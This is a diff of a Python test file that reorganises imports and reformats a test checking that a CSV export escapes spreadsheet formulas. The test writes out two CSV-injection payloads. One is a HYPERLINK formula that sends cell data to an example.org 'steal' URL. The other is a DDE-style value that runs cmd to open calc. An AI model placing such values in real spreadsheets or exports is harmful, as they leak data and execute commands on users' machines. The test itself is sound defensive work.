@@ -7,10 +7,10 @@ import json
 
 import jsonschema_rs
 
-from quaestio.branding import load_branding
-from quaestio.buildinfo import BuildInfo
-from quaestio.exports import write_data
 from quaestio.pipeline import check
+from quaestio.publish.branding import load_branding
+from quaestio.publish.buildinfo import BuildInfo
+from quaestio.publish.exports import write_data
 
 
 def _export(repo, tmp_path):
@@ -51,12 +51,18 @@ def test_csv_has_one_row_per_recommendation_with_a_bom_for_spreadsheets(repo, tm
 
 
 def test_csv_cells_never_start_like_a_spreadsheet_formula(repo, tmp_path):
-    repo.replace("recommendations/alpha/public.yaml", "    title: Fund the first challenge",
-                 "    title: '=HYPERLINK(\"https://example.org/steal?\"&A1, \"Click\")'")
-    repo.replace("recommendations/alpha/public.yaml", "    rationale: Because nobody else will.",
-                 "    rationale: '@SUM(1+1)*cmd|'' /C calc''!A0'")
+    repo.replace(
+        "recommendations/alpha/public.yaml",
+        "    title: Fund the first challenge",
+        '    title: \'=HYPERLINK("https://example.org/steal?"&A1, "Click")\'',
+    )
+    repo.replace(
+        "recommendations/alpha/public.yaml",
+        "    rationale: Because nobody else will.",
+        "    rationale: '@SUM(1+1)*cmd|'' /C calc''!A0'",
+    )
     rows = list(csv.DictReader(_export(repo, tmp_path)[2].read_text(encoding="utf-8-sig").splitlines()))
     public = next(r for r in rows if r["id"] == "ALP-PUB-01")
-    assert public["title"] == "'=HYPERLINK(\"https://example.org/steal?\"&A1, \"Click\")"
+    assert public["title"] == '\'=HYPERLINK("https://example.org/steal?"&A1, "Click")'
     assert public["rationale"].startswith("'@SUM")
     assert rows[0]["title"] == "Teach the first challenge"  # ordinary text is untouched
